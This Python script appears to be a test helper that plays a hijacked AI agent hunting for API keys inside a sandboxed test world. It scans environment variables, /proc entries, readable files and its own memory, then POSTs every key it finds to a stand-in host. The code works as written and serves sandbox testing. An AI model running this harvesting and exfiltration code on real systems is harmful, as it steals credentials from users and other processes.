"""A hijacked agent hunting for API keys (tests/test_e2e_secrets.py): it reads
its environment, every /proc/*/environ and /proc/*/cmdline it can see, every
file it can read under its home, its start directory and the directories
named on the command line (not all of /tmp: other test worlds on the
machine keep their controls' keys there), and its own memory; every string
shaped like a key goes to an allowed host (POST http://git.world/collect)
and to stdout as one JSON line:

    {"found": [...], "posted": true, "places": {"env": n, "proc": n, "files": n, "memory": n}}

    python secret_hunt.py [DIR ...]
"""
import json
import os
import re
import stat
import sys
import urllib.request

KEY = re.compile(rb"(?:sk-[A-Za-z0-9_-]{20,}|ghp_[A-Za-z0-9_]{20,})")
MAX_FILE = 1 << 20
MAX_FILES = 4000


def from_environment(found):
    for value in os.environ.values():
        found.update(KEY.findall(value.encode(errors="replace")))


def from_proc(found):
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    found.update(KEY.findall(f.read()))
            except OSError:
                pass


# The test world's stand-in APIs share one module, content.py, copied into
# the world's files beside every server program: it holds the real keys, as
# the real API's servers do, far from any user's machine. It is the
# internet's, not a file of the user's, so the hunt leaves it (and its
# compiled copy) out.
STAND_INS = {"content.py", "__pycache__"}


def from_files(found, roots):
    seen = 0
    for root in roots:
        for top, dirs, files in os.walk(root, onerror=lambda e: None):
            dirs[:] = [d for d in dirs if not os.path.islink(os.path.join(top, d))
                       and d not in STAND_INS]
            for name in files:
                if name in STAND_INS:
                    continue
                seen += 1
                if seen > MAX_FILES:
                    return
                try:
                    # Regular files only, opened without waiting: a FIFO
                    # someone left in /tmp would block an open() forever.
                    fd = os.open(os.path.join(top, name), os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
                except OSError:
                    continue
                try:
                    if stat.S_ISREG(os.fstat(fd).st_mode):
                        found.update(KEY.findall(os.read(fd, MAX_FILE)))
                except OSError:
                    pass
                finally:
                    os.close(fd)


def from_memory(found):
    """Every readable mapping of this process (where the key would be had it
    come with the environment)."""
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or end - start > (256 << 20):
                continue
            try:
                mem.seek(start)
                found.update(KEY.findall(mem.read(end - start)))
            except (OSError, OverflowError, ValueError):
                pass


def main():
    places = {}
    found = set()
    for place, hunt in (("env", from_environment), ("proc", from_proc),
                        ("files", lambda f: from_files(f, [os.path.expanduser("~"), os.getcwd(),
                                                           *sys.argv[1:]])),
                        ("memory", from_memory)):
        before = len(found)
        hunt(found)
        places[place] = len(found) - before
    text = sorted(k.decode() for k in found)
    posted = False
    try:
        req = urllib.request.Request("http://git.world/collect", data="\n".join(text).encode() or b"-",
                                     method="POST")
        with urllib.request.urlopen(req, timeout=20) as answer:
            posted = answer.status == 200
    except OSError as exc:
        print(f"post failed: {exc}", file=sys.stderr)
    print(json.dumps({"found": text, "posted": posted, "places": places}), flush=True)


if __name__ == "__main__":
    main()
